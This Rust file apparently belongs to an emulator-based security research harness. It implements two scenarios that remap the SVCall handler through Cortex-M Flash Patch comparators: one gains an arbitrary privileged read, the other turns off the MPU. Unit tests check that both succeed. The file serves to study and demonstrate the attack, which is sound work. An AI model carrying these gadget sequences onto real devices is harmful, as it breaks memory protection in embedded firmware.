//! Replace the SVCall handler through instruction comparators and use it as a
//! privileged gadget: either a load from anywhere or a store that turns the
//! MPU off.

use fpb_emu::asm::{word_of, Assembler, Program};
use fpb_emu::isa::{Instruction, MemSize, Reg};
use fpb_emu::machine::{Stop, EXC_MEMMANAGE, EXC_SVCALL};
use fpb_emu::mpu::{Privilege, MPU_CTRL};
use fpb_emu::Machine;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

use super::default_config;
use crate::attacker::Attacker;
use crate::context::{ScenarioContext, ScenarioError, Session};
use crate::firmware::{self, load_and_boot, outputs, Region, AP_PRIV_RW, FLASH, MPU_ON, OUT, SRAM, STACK_TOP};
use crate::report::{ScenarioReport, Value};
use crate::{drive, ScenarioOutcome};

pub const READ_NAME: &str = "svcall_arbitrary_read";
pub const DISABLE_NAME: &str = "svcall_mpu_disable";
/// Privileged-only SRAM the read scenario plants its targets in.
pub const PRIV_BASE: u32 = SRAM + 0x2_0000;
pub const PRIV_SIZE_LOG2: u32 = 16;
const HANDLER_MARK: u8 = 0x5C;
const FAULT_MARK: u8 = 0xEE;
const PROTECTED_VALUE: u8 = 0x77;
const BUDGET: u64 = 2_000;

/// Firmware shared by both scenarios. The SVCall handler is a short routine
/// that prints a marker; thread code runs unprivileged.
fn build(thread: impl FnOnce(&mut Assembler)) -> Result<Program, ScenarioError> {
    let mut a = Assembler::new(FLASH);
    firmware::vector_table(&mut a, STACK_TOP, &[(4, "memmanage"), (11, "svc_handler")]);
    firmware::unhandled(&mut a);
    a.label("memmanage");
    firmware::emit_report(&mut a, 8, FAULT_MARK);
    a.b_self();
    a.pool();
    a.align(4);
    a.label("svc_handler");
    firmware::emit_report(&mut a, 12, HANDLER_MARK);
    a.bx(Reg::LR);
    a.pool();
    a.label("reset");
    let mut regions = firmware::standard_regions();
    regions.push(Region { index: 3, base: PRIV_BASE, size_log2: PRIV_SIZE_LOG2, ap: AP_PRIV_RW, xn: true });
    firmware::emit_mpu_setup(&mut a, &regions, MPU_ON);
    firmware::emit_drop_privilege(&mut a);
    thread(&mut a);
    a.pool();
    firmware::finish(a)
}

fn read_firmware() -> Result<Program, ScenarioError> {
    build(|a| {
        a.ldr_const(Reg::R2, OUT);
        a.b("site");
        a.pool();
        a.align(4);
        a.label("site");
        a.movs(Reg::R0, 0);
        a.svc(0);
        a.str(Reg::R0, Reg::R2, 0);
        a.b_self();
    })
}

/// The SVCall handler address as an attacker finds it: read out of the
/// vector table with an ordinary unprivileged load.
fn leak_svc_handler(m: &mut Machine) -> Result<u32, ScenarioError> {
    let entry = FLASH + 4 * EXC_SVCALL;
    let v = m.read_word(entry, Privilege::Unprivileged).ok().ok_or(ScenarioError::ReadFaulted(entry))?;
    Ok(v & !1)
}

/// A target word for the read scenario drawn from the privileged region.
pub fn random_target(rng: &mut impl Rng) -> (u32, u32) {
    let words = (1u32 << PRIV_SIZE_LOG2) / 4;
    (PRIV_BASE + 4 * rng.gen_range(0..words), rng.gen())
}

fn ldr_imm(rt: Reg, rn: Reg) -> Instruction {
    Instruction::LoadStoreImm { load: true, size: MemSize::Word, rt, rn, imm: 0 }
}

fn str_imm(rt: Reg, rn: Reg) -> Instruction {
    Instruction::LoadStoreImm { load: false, size: MemSize::Word, rt, rn, imm: 0 }
}

struct ReadRun {
    printed: Option<u32>,
    handler_ran: bool,
}

fn read_run(
    session: &mut Session,
    ctx: &ScenarioContext,
    program: &Program,
    (addr, value): (u32, u32),
    arm: bool,
    report: &mut ScenarioReport,
) -> Result<ReadRun, ScenarioError> {
    let run = if arm { "attack" } else { "control" };
    let mut m = session.machine(default_config(ctx)?)?;
    m.load_bytes(addr, &value.to_le_bytes())?;
    load_and_boot(&mut m, &[program])?;
    if !arm {
        let direct = m.read_word(addr, Privilege::Privileged).ok().ok_or(ScenarioError::ReadFaulted(addr))?;
        report.record("control.direct_privileged_read", Value::Word(direct));
    }
    let site = program.addr("site");
    let handler = leak_svc_handler(&mut m)?;
    if arm {
        report.record("attack.leaked_svc_handler", Value::Word(handler));
        let mut atk = Attacker::new(&mut m);
        atk.require_code(3)?;
        atk.place_table(SRAM + 0x1000)?;
        atk.remap_code(0, handler, word_of(ldr_imm(Reg::R0, Reg::R0), Instruction::LoadStoreSp { load: false, rt: Reg::R0, imm: 0 })?)?;
        atk.remap_code(1, handler + 4, word_of(Instruction::Bx { rm: Reg::LR }, Instruction::Nop)?)?;
        atk.remap_code(2, site, word_of(Instruction::LdrLit { rt: Reg::R0, imm: 0 }, Instruction::Svc { imm: 0 })?)?;
        atk.remap_literal(0, site + 4, addr)?;
        atk.enable_fpb()?;
    }
    session.run_for(&mut m, run, &[Stop::MmioWrite], BUDGET);
    if !outputs(&m, 12).is_empty() {
        session.run_for(&mut m, run, &[Stop::MmioWrite], BUDGET);
    }
    Ok(ReadRun { printed: outputs(&m, 0).first().copied(), handler_ran: outputs(&m, 12) == [u32::from(HANDLER_MARK)] })
}

fn printed(v: Option<u32>) -> Value {
    v.map_or(Value::Text("none".into()), Value::Word)
}

/// Leaks the word at `target.0` (planted with value `target.1`).
pub fn svcall_arbitrary_read(ctx: &ScenarioContext, target: (u32, u32)) -> ScenarioOutcome {
    drive(READ_NAME, ctx, |session, report: &mut ScenarioReport| {
        let program = read_firmware()?;
        report.record("target_addr", Value::Word(target.0));
        let control = read_run(session, ctx, &program, target, false, report)?;
        report.expect_eq("control.handler_ran", Value::Flag(control.handler_ran), Value::Flag(true));
        report.record("control.r0", printed(control.printed));
        let attack = read_run(session, ctx, &program, target, true, report)?;
        report.expect_eq("attack.handler_ran", Value::Flag(attack.handler_ran), Value::Flag(false));
        let direct = report.get("control.direct_privileged_read").cloned().unwrap_or(Value::Text("none".into()));
        report.expect_eq("attack.r0", printed(attack.printed), direct);
        report.expect_differs("attack.r0", "control.r0");
        Ok(())
    })
}

pub fn run_arbitrary_read(ctx: &ScenarioContext) -> ScenarioOutcome {
    let mut rng = ChaCha8Rng::seed_from_u64(ctx.seed);
    svcall_arbitrary_read(ctx, random_target(&mut rng))
}

fn disable_firmware() -> Result<Program, ScenarioError> {
    build(|a| {
        a.svc(0);
        a.ldr_const(Reg::R1, PRIV_BASE);
        a.movs(Reg::R0, PROTECTED_VALUE);
        a.str(Reg::R0, Reg::R1, 0);
        a.ldr_const(Reg::R2, OUT);
        a.str(Reg::R0, Reg::R2, 0);
        a.b_self();
    })
}

pub fn svcall_mpu_disable(ctx: &ScenarioContext) -> ScenarioOutcome {
    drive(DISABLE_NAME, ctx, |session, report: &mut ScenarioReport| {
        let program = disable_firmware()?;
        for arm in [false, true] {
            let run = if arm { "attack" } else { "control" };
            let mut m = session.machine(default_config(ctx)?)?;
            load_and_boot(&mut m, &[&program])?;
            if arm {
                let handler = leak_svc_handler(&mut m)?;
                let mut atk = Attacker::new(&mut m);
                atk.require_code(2)?;
                atk.place_table(SRAM + 0x1000)?;
                // ldr r1, [pc, #8] reads handler + 12, which the literal
                // comparator turns into the MPU_CTRL address.
                atk.remap_code(0, handler, word_of(Instruction::LdrLit { rt: Reg::R1, imm: 8 }, Instruction::MovImm { rd: Reg::R0, imm: 0 })?)?;
                atk.remap_code(1, handler + 4, word_of(str_imm(Reg::R0, Reg::R1), Instruction::Bx { rm: Reg::LR })?)?;
                atk.remap_literal(0, handler + 12, MPU_CTRL)?;
                atk.enable_fpb()?;
            }
            // Past the handler's marker, up to the thread's print or the fault.
            for _ in 0..3 {
                if !outputs(&m, 0).is_empty() || !outputs(&m, 8).is_empty() {
                    break;
                }
                session.run_for(&mut m, run, &[Stop::MmioWrite], BUDGET);
            }
            let mpu_ctrl = Attacker::new(&mut m).read(MPU_CTRL)?;
            let memmanage = m.exceptions_taken(EXC_MEMMANAGE) as u64;
            let stored = m.peek_word(PRIV_BASE).unwrap_or(0) == u32::from(PROTECTED_VALUE);
            if arm {
                report.expect_eq("attack.mpu_ctrl", Value::Word(mpu_ctrl), Value::Word(0));
                report.expect_eq("attack.memmanage", Value::Count(memmanage), Value::Count(0));
                report.expect_eq("attack.protected_store_succeeded", Value::Flag(stored), Value::Flag(true));
            } else {
                report.expect_eq("control.mpu_ctrl", Value::Word(mpu_ctrl), Value::Word(MPU_ON));
                report.expect_eq("control.memmanage", Value::Count(memmanage), Value::Count(1));
                report.expect_eq("control.protected_store_succeeded", Value::Flag(stored), Value::Flag(false));
            }
        }
        report.expect_differs("attack.protected_store_succeeded", "control.protected_store_succeeded");
        Ok(())
    })
}

pub fn run_mpu_disable(ctx: &ScenarioContext) -> ScenarioOutcome {
    svcall_mpu_disable(ctx)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_planted_word() {
        let out = svcall_arbitrary_read(&ScenarioContext::default(), (PRIV_BASE + 0x40, 0x1337_1337));
        assert!(out.report.passed, "{:#?}", out.report);
        assert_eq!(out.report.get("attack.r0"), Some(&Value::Word(0x1337_1337)));
    }

    #[test]
    fn reads_unrestricted_word_too() {
        let out = svcall_arbitrary_read(&ScenarioContext::default(), (SRAM + 0x3000, 0x0BAD_F00D));
        assert!(out.report.passed, "{:#?}", out.report);
    }

    #[test]
    fn mpu_is_turned_off() {
        let out = run_mpu_disable(&ScenarioContext::default());
        assert!(out.report.passed, "{:#?}", out.report);
    }
}
